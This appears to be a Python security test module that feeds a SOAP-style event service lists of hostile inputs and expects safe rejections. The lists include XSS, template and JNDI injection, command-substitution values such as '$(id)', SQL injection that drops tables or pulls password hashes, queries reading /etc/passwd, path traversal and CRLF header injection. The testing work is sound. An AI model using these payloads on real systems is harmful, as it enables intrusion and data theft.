"""Text that would be code somewhere else: markup, header lines, SQL, patterns, paths."""

from collections.abc import Iterator
from xml.sax.saxutils import escape

from tests.hostile.case import CANARY, CLIENT, EVENT, HARMLESS, XML, Case, call

MARKUP, LINES, SQL, LIKE, PATHS = "markup", "CRLF", "SQL", "LIKE", "path traversal"
_MARKUP = (
    *(
        "<script>alert(1)</script>",
        '"><img src=x onerror=alert(1)>',
        "javascript:alert(1)",
        "]]><script>",
        "<!--",
        "-->",
    ),
    *(
        "</t:title><t:priority>urgent</t:priority><t:title>",
        "<![CDATA[x]]>",
        "&lt;b&gt;",
        "&amp;amp;",
        "<?xml?>",
        "{{7*7}}",
    ),
    *(
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{% include '/etc/passwd' %}",
        "${jndi:ldap://" + CANARY + "/x}",
        "=cmd|' /C calc'!A0",
    ),
    *(
        "@SUM(1+1)",
        "+1+1",
        "-1+1",
        "%s%s%n",
        "{0.__class__}",
        "`id`",
        "$(id)",
        "; id",
        "| id",
        f"<img src='http://{CANARY}/'/>",
    ),
    *(
        "\u202eevil",
        "<svg/onload=alert(1)>",
        "&#x3c;script&#x3e;",
        "data:text/html;base64,PHNjcmlwdD4=",
        "*)(uid=*))(|(uid=*",
    ),
)
_SQL = (
    *(
        "'",
        "''",
        '"',
        "\\",
        "\\'",
        "' OR '1'='1",
        "' OR 1=1 --",
        "'; DROP TABLE events; --",
        "1; SELECT pg_sleep(5)",
        "/*",
    ),
    *(
        "' UNION SELECT password_hash FROM users --",
        "' AND 1=CAST((SELECT version()) AS int) --",
        "%27%20OR%201=1",
        "0x27",
    ),
    *(
        "'||(SELECT 1)||'",
        "') OR ('1'='1",
        "admin'--",
        "\x1a' OR 1=1",
        "ʼ OR 1=1",
        "＇ OR 1=1",
        "' OR ''='",
        "$$; SELECT 1; $$",
    ),
    *(
        "' AND randomblob(1000000000) --",
        "'; ATTACH DATABASE '/tmp/x' AS x; --",
        "\ud7ff' OR 1=1",
        "NULL",
        ":name",
        "?",
        "%s",
    ),
)
_STATEMENTS = (
    *("SELECT * FROM users", "SELECT password_hash FROM users", "SELECT sql FROM sqlite_master", "SELECT 1; SELECT 2"),
    *("SELECT pg_sleep(10)", "SELECT * FROM events, events, events", "DELETE FROM events", "DROP TABLE events", "VACUUM"),
    *("ATTACH DATABASE '/etc/passwd' AS x", "PRAGMA table_info(users)", "COPY events TO '/tmp/x'", "SET ROLE postgres"),
    *("WITH RECURSIVE n AS (SELECT 1 UNION ALL SELECT 1 FROM n) SELECT * FROM n", "SELECT load_extension('x')", "COMMIT"),
    *("SELECT zeroblob(1000000000)", "SELECT pg_read_file('/etc/passwd')", "SELECT readfile('/etc/passwd')", "EXPLAIN SELECT 1"),
    *("SELECT id FROM events ORDER BY (SELECT 1 FROM users)", "SELECT /*", "SELECT --", "", ";", "(" * 5_000, "SELECT " + "1+" * 3_000 + "1"),
    *("SELECT current_setting('is_superuser')", "SELECT 1 WHERE :a", "SELECT ?", "SELECT $1", "SELECT '" + "x" * 9_000 + "'", "\\d"),
)  # fmt: skip
_PATTERNS = (
    "%",
    "_",
    "%%",
    "%_%",
    "\\",
    "\\%",
    "[a-z]%",
    "*",
    "?",
    "%" * 200,
    "_" * 200,
    "(a+)+$",
    "^",
    ".*",
    "%a" * 100,
)
_PATHS = (
    *(
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/etc/passwd",
        "C:\\boot.ini",
        "....//....//etc/passwd",
        "a/../../b",
    ),
    *(
        "..%2f..%2fetc%2fpasswd",
        "a.txt\x85.exe",
        "CON",
        "NUL.txt",
        "COM1",
        "a.txt::$DATA",
        ".",
        "..",
        ".htaccess",
        "~/.ssh/id",
    ),
    *(
        "a\u202etxt.exe",
        "a.exe",
        "a.EXE ",
        "a.txt.",
        "-rf",
        "$(id).txt",
        "a;b.txt",
        'a".txt',
        "a\u2215b",
        "\\\\host\\share\\x",
        " ",
    ),
    *(
        "a" * 300 + ".txt",
        "a.js",
        "a.lnk",
        "file:///etc/passwd",
        f"http://{CANARY}/x",
        "a.txt/",
        "a\u00a0.exe",
        "{a}.txt",
        "<a>.txt",
    ),
)


def cases() -> Iterator[Case]:
    """Yield the cases."""
    for number, text in enumerate(_MARKUP):
        for field, body in _places(text):
            yield Case(f"{number} in {field}: {text[:30]}", MARKUP, call(body), accept=HARMLESS)
    for number, text in enumerate(_SQL):
        for field, body in _places(text):
            yield Case(f"{number} in {field}: {text[:30]}", SQL, call(body), accept=HARMLESS)
    for number, statement in enumerate(_STATEMENTS):
        body = f"<t:ExecuteQuery><t:sql>{escape(statement)}</t:sql></t:ExecuteQuery>"
        title = f"{number} statement {statement[:30]}"
        yield Case(title, SQL, call(body), accept=frozenset({CLIENT}), settles=True)
        yield Case(f"{title} of an administrator", SQL, call(body), caller="admin", accept=frozenset({CLIENT}))
    for number, pattern in enumerate(_PATTERNS):
        body = f"<t:ListEvents><t:filter><t:text>{escape(pattern)}</t:text></t:filter></t:ListEvents>"
        yield Case(f"{number} events like {pattern[:20]}", LIKE, call(body), accept=HARMLESS, settles=True)
        body = f"<t:ListUsers><t:filter><t:text>{escape(pattern)}</t:text></t:filter></t:ListUsers>"
        yield Case(f"{number} users like {pattern[:20]}", LIKE, call(body), accept=HARMLESS)
    for number, path in enumerate(_PATHS):
        yield Case(f"{number} file {path[:30]}", PATHS, call(_file(path)), accept=HARMLESS)
    yield from _lines()
    yield from _of_others()


def _places(text: str) -> Iterator[tuple[str, str]]:
    """Yield a call for each kind of place that text is kept in or looked for."""
    safe = escape(text.replace("\x1a", ""))
    yield "a title", f"<t:SubmitEvent><t:title>{safe}</t:title><t:content>{safe}</t:content></t:SubmitEvent>"
    yield "a search", f"<t:ListEvents><t:filter><t:text>{safe}</t:text></t:filter></t:ListEvents>"
    yield "a cursor", f"<t:ListEvents><t:page><t:cursor>{safe}</t:cursor></t:page></t:ListEvents>"
    yield "a name", f"<t:IsUsernameAvailable><t:username>{safe}</t:username></t:IsUsernameAvailable>"
    yield "a table", f"<t:ReadTable><t:table>{safe}</t:table></t:ReadTable>"


def _file(name: str) -> str:
    return (
        f"<t:AddAttachment><t:eventId>{EVENT}</t:eventId><t:fileName>{escape(name)}</t:fileName>"
        "<t:mediaType>text/plain</t:mediaType><t:content>QUJD</t:content></t:AddAttachment>"
    )


def _lines() -> Iterator[Case]:
    broken = (
        "a&#13;&#10;Set-Cookie: x=y",
        "a&#10;b",
        "a&#13;b",
        "a&#9;b",
        "a\r\nb",
        "%0d%0aX: y",
        "a\u2028b",
        "a&#x85;b",
    )
    for number, text in enumerate(broken):
        entry = f"<t:SubmitEvent><t:title>{text}</t:title><t:content>x</t:content></t:SubmitEvent>"
        yield Case(f"{number} in a title", LINES, call(entry), accept=HARMLESS)
        entry = _file("@").replace("@", text)
        yield Case(f"{number} in a file name", LINES, call(entry), accept=HARMLESS)
        entry = f"<t:Login><t:username>{text}</t:username><t:password>x</t:password></t:Login>"
        headers = (XML, "X-Forwarded-For: 203.0.113.7")
        yield Case(f"{number} in a user name", LINES, call(entry, header=""), headers, accept=HARMLESS)
        entry = _file("a.txt").replace("text/plain", f"text/plain{text}")
        yield Case(f"{number} in a media type", LINES, call(entry), accept=HARMLESS)
    for name in (
        "X-Correlation-Id",
        "X-Forwarded-For",
        "User-Agent",
        "Referer",
        "Cookie",
        "Accept",
        "Origin",
        "Forwarded",
    ):
        long = (XML, f"{name}: " + "x" * 12_000)
        yield Case(f"a long {name}", LINES, call("<t:GetCurrentUser/>"), long, accept=HARMLESS)
        odd = (XML, f'{name}: \x1b[31m\x07 \' OR 1=1 <script> %0d%0a {{"a": 1}}')
        yield Case(f"an odd {name}", LINES, call("<t:GetCurrentUser/>"), odd, accept=HARMLESS | {"BAD_HTTP"})


def _of_others() -> Iterator[Case]:
    """Yield calls on what belongs to somebody else."""
    event = f"<t:eventId>{EVENT}</t:eventId>"
    version = "<t:expectedVersion>1</t:expectedVersion>"
    for operation, more in {
        "GetEvent": "",
        "GetEventHistory": "",
        "ListReplies": "",
        "PostReply": "<t:text>x</t:text>",
        "CompleteEvent": version,
        "WithdrawEvent": version,
        "ReopenEvent": version,
        "DeleteWithdrawnEvent": version,
        "GetRating": "",
        "UpdateEvent": version + "<t:title>x</t:title><t:content>x</t:content>",
    }.items():
        body = call(f"<t:{operation}>{event}{more}</t:{operation}>")
        yield Case(f"{operation} of another", PATHS, body, accept=frozenset({CLIENT}))
